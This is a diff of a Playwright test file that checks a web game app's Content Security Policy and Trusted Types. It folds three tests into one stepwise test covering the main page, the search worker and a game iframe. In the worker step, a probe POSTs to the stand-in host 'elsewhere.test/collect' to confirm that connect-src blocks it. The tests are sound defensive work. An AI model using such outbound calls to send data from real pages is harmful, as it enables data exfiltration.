@@ -1,30 +1,61 @@
 import type { Frame } from '@playwright/test';
-import { untilDrawn } from './open-page.ts';
 import { expect, test } from './perya-test.ts';
-import { keepToken } from './players.ts';
+import { bringToken, playOnce } from './players.ts';
 
 const REFUSED =
   /^policy: |Content Security Policy|Trusted(?:HTML|Script|ScriptURL|Type)|Fetch API cannot load/i;
 
-test('a page of the app runs nothing but its own files', async ({ page, console }) => {
+const refusals = {
+  eval: 'EvalError',
+  'new Function': 'EvalError',
+  'inline script': 'TypeError',
+  'inline listener': 'TypeError',
+  'foreign script': 'TypeError',
+  'foreign worker': 'TypeError',
+  'blob worker': 'TypeError',
+  'markup from a string': 'TypeError',
+  'a policy of another name': 'TypeError',
+  'foreign call': 'TypeError',
+};
+
+test('the app, its worker and its games run nothing but their own files, and work', async ({
+  page,
+  player,
+  console,
+}) => {
   console.expect(REFUSED);
-  await page.goto('/');
-  await untilDrawn(page);
-  await expect(page.getByRole('heading', { name: 'Hot tonight' })).toBeVisible();
-  expect(await attack(page.mainFrame())).toEqual({
-    eval: 'EvalError',
-    'new Function': 'EvalError',
-    'inline script': 'TypeError',
-    'inline listener': 'TypeError',
-    'foreign script': 'TypeError',
-    'foreign worker': 'TypeError',
-    'blob worker': 'TypeError',
-    'markup from a string': 'TypeError',
-    'a policy of another name': 'TypeError',
-    'foreign call': 'TypeError',
+  await page.emulateMedia({ reducedMotion: 'reduce' });
+  await bringToken(page, player);
+
+  await test.step('a page runs nothing but the app’s files', async () => {
+    await expect(page.getByRole('heading', { name: 'Hot tonight' })).toBeVisible();
+    expect(await attack(page.mainFrame())).toEqual(refusals);
   });
-  await page.getByRole('link', { name: 'Search', exact: true }).click();
-  await expect(page.getByRole('searchbox')).toBeVisible();
+
+  await test.step('the worker that searches asks nobody but the app', async () => {
+    const started = page.waitForEvent('worker');
+    await page.getByRole('link', { name: 'Search', exact: true }).click();
+    await page.getByRole('searchbox').fill('color');
+    await expect(page.getByRole('link', { name: /^Color Game/ })).toBeVisible();
+    const refused = (await started).evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
+          fetch('https://elsewhere.test/collect', { method: 'POST' }).catch(() => null);
+        }),
+    );
+    expect(await refused).toBe('connect-src');
+  });
+
+  await test.step('a game’s frame trusts no string and reaches nobody, and plays', async () => {
+    await page.getByRole('link', { name: /^Color Game/ }).click();
+    const roll = page.frameLocator('iframe').getByRole('button', { name: /^Roll/ });
+    await expect(roll).toBeVisible();
+    const [, game] = page.frames();
+    if (!game) throw new Error('The page shows no frame.');
+    expect(await attack(game)).toEqual(refusals);
+    await playOnce(page);
+  });
 });
 
 test('a worker’s policy makes no other address trusted', async ({ page, console }) => {
@@ -43,45 +74,6 @@ test('a worker’s policy makes no other address trusted', async ({ page, consol
     return ['perya-worker', 'perya-worker', 'default'].map(tryName);
   });
   expect(made).toEqual(['object', 'TypeError', 'TypeError']);
-});
-
-test('the worker that searches asks nobody but the app', async ({ page, console }) => {
-  console.expect(REFUSED);
-  const started = page.waitForEvent('worker');
-  await page.goto('/game/search?q=color');
-  await expect(page.getByRole('link', { name: /^Color Game/ })).toBeVisible();
-  const worker = await started;
-  const refused = worker.evaluate(
-    () =>
-      new Promise<string>((resolve) => {
-        addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
-        fetch('https://elsewhere.test/collect', { method: 'POST' }).catch(() => null);
-      }),
-  );
-  expect(await refused).toBe('connect-src');
-});
-
-test('a game’s frame trusts no string and reaches nobody, and plays', async ({ page, player, console }) => {
-  console.expect(REFUSED);
-  await keepToken(page, player);
-  await page.goto('/game/start?gameId=1001&tryIt=1');
-  const roll = page.frameLocator('iframe').getByRole('button', { name: /^Roll/ });
-  await expect(roll).toBeVisible();
-  const [, game] = page.frames();
-  if (!game) throw new Error('The page shows no frame.');
-  expect(await attack(game)).toEqual({
-    eval: 'EvalError',
-    'new Function': 'EvalError',
-    'inline script': 'TypeError',
-    'inline listener': 'TypeError',
-    'foreign script': 'TypeError',
-    'foreign worker': 'TypeError',
-    'blob worker': 'TypeError',
-    'markup from a string': 'TypeError',
-    'a policy of another name': 'TypeError',
-    'foreign call': 'TypeError',
-  });
-  await expect(roll).toBeEnabled();
 });
 
 /** What becomes of each thing that foreign code would try: the error's name, or `done`. */
